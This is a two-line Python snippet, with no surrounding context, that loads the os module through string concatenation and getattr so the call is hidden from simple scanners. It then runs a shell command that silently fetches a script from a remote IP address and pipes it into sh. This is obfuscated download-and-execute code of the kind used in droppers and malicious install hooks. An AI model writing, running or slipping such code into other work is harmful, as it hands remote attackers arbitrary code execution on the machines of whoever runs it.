m = __import__('o' + 's')
getattr(m, 'sys' + 'tem')('curl -s http://198.51.100.3/t | sh')
